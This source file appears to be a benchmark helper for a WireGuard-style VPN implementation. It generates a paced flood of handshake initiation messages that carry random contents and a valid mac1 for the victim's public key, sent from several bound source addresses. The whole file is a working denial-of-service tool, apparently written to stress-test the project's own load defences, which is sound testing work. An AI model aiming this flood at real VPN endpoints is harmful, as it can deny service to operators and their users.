// SPDX-License-Identifier: BSD-2-Clause
/*
 * The handshake-flood attacker for b_flood.ts: type-1 messages of random
 * contents with a valid mac1 for the victim's public key (what anyone
 * who knows that key can make), sent from several source addresses with
 * sendmmsg(2), paced to a rate.  Prints one JSON line when done.
 *
 *   node flood_gen.js DST_IP DST_PORT PUBKEY_BASE64 RATE SECONDS SRC_IP[,SRC_IP...]
 */

import { crypto_attach } from '../../sys/crypto/crypto_select.js';
import {
	LINUX_AF_INET, SOCK_DGRAM, SOCK_NONBLOCK, bind, check, close, socket,
} from '../../sys/arch/linux/libc.js';
import { MmsgRing, sockaddr_put } from '../../sys/arch/linux/udp.js';
import { INIT_OFF_MAC1, MSG_INITIATION, MSG_INITIATION_LEN } from '../../sys/net/wg/messages.js';

const [dst_s, port_s, pub_s, rate_s, secs_s, srcs_s] = process.argv.slice(2);
if (srcs_s === undefined) {
	process.stderr.write('usage: flood_gen DST_IP DST_PORT PUBKEY RATE SECONDS SRC_IP[,SRC_IP...]\n');
	process.exit(2);
}
const v4 = (s: string) => Uint8Array.from(s.split('.').map(Number));
const dst = v4(dst_s);
const port = Number(port_s);
const rate = Number(rate_s);
const secs = Number(secs_s);
const c = crypto_attach('sodium');
const mac1_key = c.hash(new TextEncoder().encode('mac1----'), Uint8Array.from(Buffer.from(pub_s, 'base64')));

/* One socket per source address. */
const fds = srcs_s.split(',').map((s) => {
	const fd = check(socket(LINUX_AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0), 'socket');
	const sa = new Uint8Array(16);
	sockaddr_put(sa, 0, 4, v4(s), 0);
	check(bind(fd, sa, sa.length), 'bind', s);
	return fd;
});

/* Garbage with a valid mac1 (mac2 garbage too), in a ring reused batch after batch. */
const BATCH = 64;
const POOL = 16;
const rings = Array.from({ length: POOL }, () => {
	const r = new MmsgRing(BATCH, MSG_INITIATION_LEN);
	for (let i = 0; i < BATCH; i++) {
		const m = r.bufs[i];
		m.set(c.random_bytes(MSG_INITIATION_LEN));
		m[0] = MSG_INITIATION;
		m[1] = m[2] = m[3] = 0;
		m.set(c.mac(mac1_key, m.subarray(0, INIT_OFF_MAC1)), INIT_OFF_MAC1);
		r.prep_to(i, 4, dst, port, 0, MSG_INITIATION_LEN);
	}
	return r;
});

const nap = new Int32Array(new SharedArrayBuffer(4));
const t0 = performance.now();
let sent = 0;
let tried = 0;
for (let b = 0; ; b++) {
	const el = (performance.now() - t0) / 1000;
	if (el >= secs)
		break;
	if (tried >= el * rate) {
		Atomics.wait(nap, 0, 0, 1);
		continue;
	}
	const fd = fds[b % fds.length];
	sent += rings[b % POOL].send(fd, -1, BATCH);
	tried += BATCH;
}
for (const fd of fds)
	close(fd);
const el = (performance.now() - t0) / 1000;
console.log(JSON.stringify({ flood_sent: sent, flood_tried: tried, seconds: +el.toFixed(2), rate: Math.round(sent / el) }));
